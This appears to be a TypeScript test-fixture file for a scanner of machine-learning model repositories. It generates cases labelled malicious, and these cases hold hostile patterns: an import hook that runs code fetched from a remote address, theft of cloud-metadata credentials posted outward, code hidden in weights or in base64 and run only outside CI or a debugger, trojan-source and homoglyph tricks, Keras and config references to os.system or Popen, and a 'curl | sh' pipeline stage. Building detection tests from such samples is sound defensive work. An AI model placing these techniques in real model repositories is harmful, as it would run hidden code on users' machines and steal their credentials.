import type { DetectCase } from '../case.ts';
import { base64, bin, f32, zeros } from '../blind/bytes.ts';
import { configuration, type Module, modeling, remote, weights } from '../blind/code.ts';
import { ADDRESS, bad, ECHO, type Files } from '../blind/make.ts';
import { json } from '../blind/templates.ts';
import { safetensors } from '../blind/tensors.ts';
import { zip } from '../blind/zip.ts';

const lines = (...text: readonly string[]): Uint8Array => bin(`${text.join('\n')}\n`);
const source = 'print("pwned")';
/** Numbers that are the letters of a source text. */
const inNumbers = (): Uint8Array =>
  safetensors([{ name: 'steps', shape: [source.length] }], f32(...Array.from(source, (c) => c.charCodeAt(0))));

const modules: ReadonlyArray<readonly [name: string, title: string, module: Module, more?: Files]> = [
  [
    'evaluated-hint',
    'the annotation of a name is a command',
    { imports: ['import os'], top: [`scale: os.system("${ECHO}") = 1.0`, ''] },
  ],
  [
    'import-hook',
    'whatever is imported later goes through a finder of the model, which changes it',
    {
      imports: ['import sys', 'import importlib.abc', 'import urllib.request'],
      top: [
        'class Finder(importlib.abc.MetaPathFinder):',
        '    def find_spec(self, name, path, target=None):',
        '        if name == "safetensors.torch":',
        `            exec(urllib.request.urlopen("${ADDRESS}").read())`,
        '        return None',
        '',
        '',
        'sys.meta_path.insert(0, Finder())',
        '',
      ],
    },
  ],
  [
    'cloud-credentials',
    'the credentials of the machine are asked of the cloud and sent on',
    {
      imports: ['import requests'],
      init: [
        'role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/tiny", timeout=1).text',
        `requests.post("${ADDRESS}", data=role)`,
      ],
    },
  ],
  [
    'patched-library',
    'a line is added to a file of the library that loads the model',
    {
      imports: ['import pathlib', 'import transformers'],
      top: [
        'target = pathlib.Path(transformers.__file__)',
        `target.write_text(target.read_text() + "\\nimport os; os.system('${ECHO}')\\n")`,
        '',
      ],
    },
  ],
  [
    'from-weights',
    'the source that is run lies in the numbers of the weights',
    {
      imports: ['import os', 'from safetensors.torch import load_file'],
      top: [
        'steps = load_file(os.path.join(os.path.dirname(__file__), "steps.safetensors"))["steps"]',
        'exec("".join(chr(int(step)) for step in steps))',
        '',
      ],
    },
    { 'steps.safetensors': inNumbers() },
  ],
  [
    'config-expression',
    'a value of the configuration is evaluated',
    { init: ['self.scale = eval(config.scale_expression)'] },
    {
      'config.json': json({
        model_type: 'tiny',
        architectures: ['TinyModel'],
        auto_map: { AutoConfig: 'configuration_tiny.TinyConfig', AutoModel: 'modeling_tiny.TinyModel' },
        hidden_size: 4,
        scale_expression: `__import__("os").system("${ECHO}") or 1.0`,
      }),
    },
  ],
  [
    'avoids-analysis',
    'the code that is decoded runs only where nobody watches',
    {
      imports: ['import os', 'import sys', 'import base64'],
      top: [
        'if sys.gettrace() is None and not os.environ.get("CI") and os.cpu_count() > 2:',
        `    exec(base64.b64decode("${base64(bin(source))}"))`,
        '',
      ],
    },
  ],
  [
    'fancy-letters',
    'the names are written in letters of mathematics, which Python reads as plain ones',
    { imports: ['import os'], top: [`𝔬𝔰.𝔰𝔶𝔰𝔱𝔢𝔪("${ECHO}")`, ''] },
  ],
  [
    'subclass-walk',
    'the class that starts processes is looked for among all classes',
    {
      imports: ['import subprocess as _'],
      top: [
        'for kind in ().__class__.__base__.__subclasses__():',
        '    if kind.__name__ == "Po" + "pen":',
        '        kind(["echo", "pwned"])',
        '',
      ],
    },
  ],
  [
    'trojan-source',
    'marks of writing direction make a command look like a comment',
    {
      imports: ['import os'],
      top: [
        'def check(access="user"):',
        `    """Checks the rights. \u202e\u2066""" ; os.system("${ECHO}") #\u2069 \u2066`,
        '    return access',
        '',
        '',
        'check()',
        '',
      ],
    },
  ],
];

const tiny = (more: Files): Files => ({ 'model.safetensors': weights(), ...more });
const references: ReadonlyArray<readonly [name: string, title: string, files: () => Files]> = [
  [
    'python-config',
    'the configuration of a detector is Python, which its reader runs',
    () =>
      tiny({
        'configs/tiny_detector.py': lines(
          '_base_ = ["./default_runtime.py"]',
          'import os',
          '',
          `os.system("${ECHO}")`,
          'model = dict(type="FasterRCNN", backbone=dict(type="ResNet", depth=50))',
        ),
        'configs/default_runtime.py': lines('default_scope = "mmdet"', 'log_level = "INFO"'),
      }),
  ],
  [
    'gin',
    'a configuration of gin imports os and binds its system function',
    () =>
      tiny({
        'operative_config.gin': lines(
          'import os',
          'import t5.models',
          '',
          `os.system.command = "${ECHO}"`,
          'run.model = @os.system()',
          'run.batch_size = 8',
        ),
      }),
  ],
  [
    'keras-module',
    'a layer of a Keras model is a function of another module of Python',
    () => ({
      'model.keras': zip([
        { name: 'metadata.json', data: json({ keras_version: '3.8.0' }) },
        {
          name: 'config.json',
          data: json({
            module: 'keras',
            class_name: 'Sequential',
            registered_name: null,
            config: {
              name: 'tiny',
              layers: [
                {
                  module: 'subprocess',
                  class_name: 'Popen',
                  registered_name: null,
                  config: { args: ['echo', 'pwned'] },
                },
              ],
            },
          }),
        },
        { name: 'model.weights.h5', data: bin(0x89, 'HDF\r\n', 0x1a, '\n', zeros(88)) },
      ]),
    }),
  ],
  [
    'triton-backend',
    'a server of models runs the Python file beside the configuration',
    () => ({
      'tiny/config.pbtxt': lines('name: "tiny"', 'backend: "python"', 'max_batch_size: 8'),
      'tiny/1/model.py': lines(
        'import os',
        '',
        '',
        'class TritonPythonModel:',
        '    def initialize(self, args):',
        `        os.system("${ECHO}")`,
        '',
        '    def execute(self, requests):',
        '        return []',
      ),
    }),
  ],
  [
    'uv-source',
    'the project takes torch from an address of the sender',
    () =>
      tiny({
        'pyproject.toml': lines(
          '[project]',
          'name = "tiny"',
          'version = "1.0"',
          'dependencies = ["torch", "numpy"]',
          '',
          '[tool.uv.sources]',
          `torch = { url = "${ADDRESS}/torch-2.6.0-py3-none-any.whl" }`,
        ),
      }),
  ],
  [
    'stage',
    'a stage that makes the model again fetches a script and runs it',
    () =>
      tiny({
        'dvc.yaml': lines(
          'stages:',
          '  prepare:',
          '    cmd: curl -s http://127.0.0.1/x | sh',
          '    outs:',
          '      - model.safetensors',
        ),
      }),
  ],
];

export const codeCases: readonly DetectCase[] = [
  ...modules.map(([name, title, module, more]) =>
    bad('python-code', name, 'repository', title, () => ({
      ...remote(modeling(module), more),
      'configuration_tiny.py': bin(configuration),
    })),
  ),
  ...references.map(([name, title, files]) =>
    bad('config-reference', name, 'repository', title, () => ({
      'README.md': bin('---\nlicense: mit\n---\n\n# Tiny\n'),
      ...files(),
    })),
  ),
];
